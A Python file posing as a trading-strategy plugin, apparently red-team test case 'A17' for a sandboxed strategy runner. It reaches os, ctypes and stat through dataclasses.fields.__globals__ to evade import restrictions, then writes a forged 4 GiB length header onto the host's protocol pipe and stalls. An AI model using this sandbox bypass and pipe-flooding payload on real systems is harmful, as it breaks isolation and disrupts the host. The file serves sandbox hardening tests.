# ruff: noqa
"""A17: announce a 4 GiB reply on the protocol pipe"""

import dataclasses

import numpy as np
import polars as pl
from pydantic import BaseModel

STRATEGY_ID = "attack"
VERSION = 1
WARMUP_BARS = 1


class Params(BaseModel):
    pass


def _os():
    return dataclasses.fields.__globals__["sys"].modules["os"]


def _read(path):
    os = _os()
    fd = os.open(path, os.O_RDONLY)
    try:
        return os.read(fd, 65536).decode("utf-8", "replace")
    finally:
        os.close(fd)


def _libc():
    ctypes = dataclasses.fields.__globals__["sys"].modules["ctypes"]
    return ctypes, ctypes.CDLL(None, use_errno=True)


def generate(bars, params):
    os, stat = _os(), dataclasses.fields.__globals__["sys"].modules["stat"]
    for fd in range(3, 30):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, b"\xff\xff\xff\xf0" + b"A" * 1000)
        except OSError:
            pass
    dataclasses.fields.__globals__["sys"].modules["time"].sleep(30)
